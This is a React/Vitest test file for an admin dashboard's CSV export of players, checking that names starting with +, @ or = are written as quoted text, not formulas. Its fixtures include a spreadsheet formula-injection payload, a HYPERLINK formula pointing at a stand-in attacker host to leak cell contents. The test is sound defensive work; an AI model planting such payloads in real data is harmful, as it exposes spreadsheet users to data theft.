import { adminBookingSchema, adminCommandSchema, adminUserSchema } from '@kort/contracts';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { ResourceContextProvider } from 'react-admin';
import { loadClubZone } from '../src/lib/club-time';
import { dataProvider } from '../src/providers/data-provider';
import { i18nProvider } from '../src/providers/i18n-provider';
import { UserList } from '../src/resources/users/user-list';
import type { UserRecord } from '../src/lib/records';
import { fakeServer, ok, type FakeServer } from './support/fake-server';
import { renderInAdmin } from './support/render';
import { user } from './support/records';
import { bytesOf } from './support/blob';

// «Экспорт» writes the list's records as CSV in the browser; a name a player chose must reach the
// admin's spreadsheet as text, never as a formula (docs/decisions/0072-csv-cells-never-run.md).

beforeAll(async () => {
  fakeServer({ 'GET /api/site_time/': ok({ detail: { time_zone: 'Europe/Moscow', now: '2026-11-24T17:00:00Z' } }) });
  await loadClubZone();
});

let server: FakeServer;
afterEach(() => expect(server.strays).toEqual([]));

/** Clicks «Экспорт» on the players' list and gives back the file the browser would save. */
async function exportPlayers(players: UserRecord[]): Promise<{ bytes: Uint8Array; text: string }> {
  const saved: Blob[] = [];
  // jsdom cannot follow the download link; the saved blob is what the browser would write.
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  vi.stubGlobal(
    'URL',
    Object.assign(URL, { createObjectURL: (blob: Blob) => (saved.push(blob), 'blob:csv'), revokeObjectURL: () => {} }),
  );
  server = fakeServer({
    'GET /api/admin/users': ok(players, { 'Content-Range': `users 0-${players.length - 1}/${players.length}` }),
  });
  renderInAdmin(
    <ResourceContextProvider value="users">
      <UserList />
    </ResourceContextProvider>,
    { dataProvider },
  );
  const table = await screen.findByRole('table');
  await waitFor(() => expect(within(table).getAllByRole('row')).toHaveLength(1 + players.length));
  await userEvent.click(screen.getByRole('button', { name: 'Экспорт' }));
  await waitFor(() => expect(saved).toHaveLength(1));
  const bytes = new Uint8Array(await bytesOf(saved[0]!));
  return { bytes, text: new TextDecoder().decode(bytes) };
}

test("the players' export writes +SUM(1;2) and @SUM(1+1) as text: a leading ', the cell quoted", async () => {
  const { bytes, text } = await exportPlayers([
    user(1, { name: '+SUM(1;2)', phone_number: '+79123456789', is_sport_school: true }),
    user(2, { name: '@SUM(1+1)', email: 'anna@example.ru' }),
    user(3, { name: '=HYPERLINK("http://evil.example/?"&A1;"Нажмите")' }),
  ]);
  expect(text).toContain(`;"'+SUM(1;2)";`);
  expect(text).toContain(`;"'@SUM(1+1)";`);
  expect(text).toContain(`;"'=HYPERLINK(""http://evil.example/?""&A1;""Нажмите"")";`);
  // The file a Russian spreadsheet opens at a double click: the byte-order mark, `;`, the
  // dashboard's own Russian column names, Да/Нет; a phone's + is text too.
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(text.split('\r\n')).toEqual([
    'Номер;E-mail;Имя;Телефон;Роль;Спортивная школа;Подтверждён;Заблокирован администратором;Удалён;Кем удалён;' +
      'Данные стёрты;Правила приняты;Зарегистрирован;Состояние',
    `1;user1@example.ru;"'+SUM(1;2)";"'+79123456789";player;Да;2026-11-01T10:00:00.000Z;Нет;;;Нет;` +
      '2026-11-01T10:00:00.000Z;2026-11-01T09:00:00.000Z;active',
    `2;anna@example.ru;"'@SUM(1+1)";;player;Нет;2026-11-01T10:00:00.000Z;Нет;;;Нет;` +
      '2026-11-01T10:00:00.000Z;2026-11-01T09:00:00.000Z;active',
    `3;user3@example.ru;"'=HYPERLINK(""http://evil.example/?""&A1;""Нажмите"")";;player;Нет;` +
      '2026-11-01T10:00:00.000Z;Нет;;;Нет;2026-11-01T10:00:00.000Z;2026-11-01T09:00:00.000Z;active',
    '',
  ]);
});

test("every column of the players', games' and commands' exports has its Russian name", () => {
  const exported = { users: adminUserSchema, bookings: adminBookingSchema, commands: adminCommandSchema };
  const unnamed = Object.entries(exported).flatMap(([resource, schema]) =>
    Object.keys(schema.shape).filter(
      (field) => i18nProvider.translate(`resources.${resource}.fields.${field}`, { _: field }) === field,
    ),
  );
  expect(unnamed).toEqual([]);
});

test("every list's «Экспорт» goes through the shared CSV: none is left with react-admin's own exporter", () => {
  // react-admin's <List> exports with jsonexport unless told otherwise; each of ours either has no
  // export or the toolbar whose «Экспорт» writes through @kort/contracts' toCsv.
  const sources = import.meta.glob<string>('../src/**/*.tsx', { query: '?raw', import: 'default', eager: true });
  const lists = Object.entries(sources).flatMap(([file, source]) => {
    const imported = /import \{([^}]*)\} from 'react-admin'/.exec(source)?.[1] ?? '';
    if (!/\bList\b/.test(imported)) return [];
    return [...source.matchAll(/<List[<\s][\s\S]*?<\/List>/g)].map(([list]) => ({ file, list }));
  });
  expect(lists.length).toBeGreaterThanOrEqual(8);
  const unsafe = lists.filter(({ list }) => !/exporter=\{false\}|actions=\{<ListActions \/>\}/.test(list));
  expect(unsafe.map(({ file }) => file)).toEqual([]);
});
